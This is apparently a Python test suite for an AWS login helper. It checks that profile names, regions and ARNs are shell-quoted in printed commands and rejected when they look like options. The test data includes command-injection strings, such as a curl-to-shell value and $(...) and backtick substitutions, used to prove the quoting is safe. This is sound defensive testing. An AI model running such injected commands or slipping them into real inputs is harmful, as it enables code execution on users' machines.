"""Class 7 and 8 of issue 11: names in printed commands are quoted; option-looking values stay values.

Unit tests of `quoting`, the printed commands that use it, the validation of AWS_PROFILE and
--region at the command line, and the classification of the AWS CLI's argument errors.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from awslogin_helper.checks.classify import (
    Identity,
    LoginProblem,
    attach_policy_command,
    classify_login_failure,
)
from awslogin_helper.quoting import option, quote, quote_string, shell_command
from awslogin_helper.shells import set_line
from awslogin_helper.status.model import login_command, sso_login_command
from awslogin_helper.status.warnings import _path_line

try:
    from fakeaws import FakeAws, run_helper
except ModuleNotFoundError:  # tests/ became a package
    from tests.fakeaws import FakeAws, run_helper

HOSTILE = [
    "dev;curl https://example.invalid/x|sh",
    "dev$(touch /tmp/pwned)",
    "dev`id`",
    "a b",
    "it's",
    "--debug",
    "-x",
    "",
    "~root",
    "back\\slash\\",
    "new\nline",
    "glob*?[a]",
    "$HOME",
    'quote"d',
    "amp&er|pipe>",
]
# Text without NUL (no shell argument can hold one).
ANY_TEXT = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)))


# --------------------------------------------------------------------------- quote


@pytest.mark.parametrize("plain", ["dev", "my-profile_1", "/usr/local/bin", "a.b+c@d", "x=y:z"])
def test_plain_values_stay_bare(plain: str) -> None:
    for shell in ("posix", "fish"):
        assert quote(plain, shell) == plain


@pytest.mark.parametrize("value", HOSTILE)
def test_posix_quoting_gives_back_exactly_one_argument(value: str) -> None:
    assert shlex.split(f"cmd {quote(value)}") == ["cmd", value]


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_posix_quoting_round_trips_any_text(value: str) -> None:
    assert shlex.split("cmd " + quote(value)) == ["cmd", value]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("value", [v for v in HOSTILE if v])
def test_bash_reads_a_quoted_value_literally(value: str) -> None:
    # The real shell, not a model of it: nothing runs, nothing expands.
    script = f"printf '%s' {quote(value)}"
    out = subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", script],
        capture_output=True,
        check=True,
        env={"HOME": "/nonexistent", "PATH": "/usr/bin:/bin"},
    )
    assert out.stdout.decode() == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("it's", "'it\\'s'"),
        ("back\\", "'back\\\\'"),
        ("a b", "'a b'"),
    ],
)
def test_fish_quoting_escapes_backslash_and_quote(value: str, expected: str) -> None:
    assert quote(value, "fish") == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("dev", "dev"),
        ("it's", "'it''s'"),
        ("a$b", "'a$b'"),
        ("a\u2019b", "'a\u2019\u2019b'"),  # PowerShell reads typographic quotes as quotes
        ("-x", "'-x'"),
        ("@splat", "'@splat'"),
    ],
)
def test_powershell_quoting(value: str, expected: str) -> None:
    assert quote(value, "powershell") == expected


def test_powershell_string_literals() -> None:
    assert quote_string("dev", "powershell") == '"dev"'
    assert quote_string("a$(x)", "powershell") == "'a$(x)'"
    assert quote_string("a`b", "powershell") == "'a`b'"


def test_cmd_quoting() -> None:
    assert quote("C:\\Program Files\\x", "cmd") == '"C:\\Program Files\\x"'
    assert quote("dev", "cmd") == "dev"


def test_shell_command_quotes_each_argument() -> None:
    line = shell_command(["aws", "sso", "login", "--profile", "dev;id"])
    assert line == "aws sso login --profile 'dev;id'"
    assert shlex.split(line) == ["aws", "sso", "login", "--profile", "dev;id"]


# --------------------------------------------------------------------------- option


def test_option_keeps_a_dash_value_attached() -> None:
    assert option("--profile", "dev") == ["--profile", "dev"]
    assert option("--profile", "--debug") == ["--profile=--debug"]
    assert option("--region", "-x") == ["--region=-x"]


# --------------------------------------------------------------------------- printed commands


@pytest.mark.parametrize("name", HOSTILE[:5])
def test_every_status_command_quotes_the_name(name: str) -> None:
    for command in (login_command(name), sso_login_command(name)):
        assert shlex.split(command)[-2:] == ["--profile", name]


def test_status_commands_keep_a_dash_name_a_value() -> None:
    assert shlex.split(sso_login_command("--debug"))[-1] == "--profile=--debug"


@pytest.mark.parametrize("shell", ["posix", "fish", "powershell", "cmd"])
def test_set_line_plain_value(shell: str) -> None:
    expected = {
        "posix": "export AWS_PROFILE=dev",
        "fish": "set -gx AWS_PROFILE dev",
        "powershell": '$Env:AWS_PROFILE = "dev"',
        "cmd": "set AWS_PROFILE=dev",
    }
    assert set_line(shell, "AWS_PROFILE", "dev") == expected[shell]


def test_set_line_quotes_a_hostile_value() -> None:
    line = set_line("posix", "AWS_PROFILE", "dev;curl x|sh")
    assert shlex.split(line) == ["export", "AWS_PROFILE=dev;curl x|sh"]
    assert set_line("powershell", "AWS_PROFILE", "a$(x)") == "$Env:AWS_PROFILE = 'a$(x)'"


def test_path_line_quotes_a_directory_with_specials() -> None:
    (line,) = _path_line("posix", "/opt/a$b/bin")
    assert line == "export PATH='/opt/a$b/bin':\"$PATH\""
    assert _path_line("posix", "/usr/local/bin") == ['export PATH="/usr/local/bin:$PATH"']


@pytest.mark.parametrize(
    ("arn", "flag"),
    [
        ("arn:aws:iam::123456789012:user/dev$(touch x)", "--user-name"),
        ("arn:aws:sts::123456789012:assumed-role/ops;id/session", "--role-name"),
    ],
)
def test_attach_policy_command_quotes_the_arn_part(arn: str, flag: str) -> None:
    command = attach_policy_command(Identity("123456789012", arn, ""))
    assert command is not None
    words = shlex.split(command)
    name = arn.split("/")[1]
    assert words[words.index(flag) + 1] == name


def test_attach_policy_command_keeps_a_dash_name_a_value() -> None:
    command = attach_policy_command(Identity("1", "arn:aws:iam::1:user/-x", ""))
    assert command is not None
    assert "--user-name=-x" in shlex.split(command)


# --------------------------------------------------------------------------- classification


def test_expected_one_argument_is_an_argument_error_not_an_old_cli() -> None:
    stderr = "usage: aws [options]\naws: error: argument --profile: expected one argument\n"
    assert classify_login_failure(252, stderr) is LoginProblem.BAD_ARGUMENTS
    unknown_option = "\naws: [ERROR]: Unknown options: --redirect-port, 1234\n"
    assert classify_login_failure(252, unknown_option) is LoginProblem.BAD_ARGUMENTS


def test_invalid_choice_still_means_too_old() -> None:
    stderr = "aws: error: argument command: Invalid choice, valid choices are:\n"
    assert classify_login_failure(252, stderr) is LoginProblem.NOT_SUPPORTED


# --------------------------------------------------------------------------- end to end


@pytest.mark.parametrize("variable", ["AWS_PROFILE", "AWS_DEFAULT_PROFILE"])
@pytest.mark.parametrize("command", [(), ("status",)])
@pytest.mark.parametrize("value", ["--debug", "dev;curl x|sh"])
def test_invalid_profile_variable_is_a_usage_error_naming_it(
    fake_aws: FakeAws, variable: str, command: tuple[str, ...], value: str
) -> None:
    proc = run_helper(
        fake_aws,
        *command,
        "--yes" if not command else "--json",
        env_overrides={variable: value},
        timeout=30,
    )
    assert proc.returncode == 2, proc.stderr
    assert variable in proc.stderr
    assert "Traceback" not in proc.stderr
    assert fake_aws.calls() == [], "nothing may run with an invalid profile variable"


@pytest.mark.parametrize("region", ["--debug", "-x", "us-east-1;id", "US-EAST-1"])
def test_invalid_region_is_a_usage_error(fake_aws: FakeAws, region: str) -> None:
    proc = run_helper(fake_aws, "--yes", f"--region={region}", timeout=30)
    assert proc.returncode == 2, proc.stderr
    assert "--region" in proc.stderr
    assert fake_aws.calls() == []


def test_region_followed_by_an_option_never_reaches_the_cli(fake_aws: FakeAws) -> None:
    proc = run_helper(fake_aws, "--yes", "--region", "-x", timeout=30)
    assert proc.returncode == 2, proc.stderr
    assert fake_aws.calls() == []


@pytest.mark.parametrize("region", ["us-east-1", "us-gov-west-1", "eu-central-1", "eusc-de-east-1"])
def test_real_region_names_pass(fake_aws: FakeAws, region: str) -> None:
    fake_aws.write_config("[default]\nregion = us-east-1\n")
    fake_aws.write_credentials(
        "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
    )
    proc = run_helper(fake_aws, "--yes", "--region", region, timeout=30)
    assert proc.returncode != 2, proc.stderr


def test_sso_pick_from_the_file_is_quoted_in_printed_commands(fake_aws: FakeAws) -> None:
    # A profile name straight from ~/.aws/config (never validated by the user's hand).
    name = "dev;id|sh"
    fake_aws.write_config(
        f"[profile {name}]\nsso_start_url = https://example.awsapps.com/start\n"
        "sso_region = us-east-1\nsso_account_id = 123456789012\nsso_role_name = Dev\n"
    )
    proc = run_helper(fake_aws, "--sso", timeout=30)
    text = proc.stdout + proc.stderr
    assert "Traceback" not in text
    assert f"--profile {name}" not in " ".join(text.split()), text
    assert "--profile 'dev;id|sh'" in " ".join(text.split()), text
